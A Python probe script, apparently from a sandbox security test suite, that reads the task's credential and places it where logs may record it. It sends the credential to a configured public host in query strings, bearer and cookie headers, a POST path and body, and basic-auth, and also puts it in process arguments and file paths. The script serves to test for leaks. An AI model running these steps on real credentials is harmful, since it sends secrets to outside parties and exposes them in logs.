"""Uses the task's credential in places that careless logs record."""
import sys

sys.dont_write_bytecode = True
import os
import subprocess

import attempt
import channel

PLACE = attempt.PATHS.get("credential")
NAME = attempt.NET["publicName"]


def own_credential():
    """Where the sandbox gives none, a value that looks like one."""
    if not PLACE:
        return "tok-" + attempt.answer("token")
    with open(PLACE, encoding="ascii") as file:
        return file.read().strip()


def as_argument():
    program = os.path.join(os.path.dirname(attempt.CANARY["file"]), "no-program-" + attempt.NONCE)
    subprocess.run([program, "--token", value], timeout=2, check=True)


attempt.begin()
value = attempt.control("read own credential", own_credential) or ""
attempt.token(value)
attempt.hostile("put a credential where logs pick it up")
headers = {"Authorization": "Bearer " + value, "Cookie": "session=" + value}
channel.try_fetch(NAME, "/hit/%s?token=%s" % (attempt.NONCE, value), headers=headers)
channel.try_fetch(NAME, "/%s/%s" % (value, attempt.NONCE), method="POST", body=value.encode())
attempt.variant("credential as user and password",
                lambda: channel.fetch("user:%s@%s" % (value, NAME), "/hit/" + attempt.NONCE).expect(200))
channel.knock([(attempt.NET["public"], 80)])
attempt.variant("credential as an argument", as_argument)
attempt.variant("credential in a path", lambda: os.stat(os.path.join(attempt.CANARY["dir"], value)))
attempt.end()
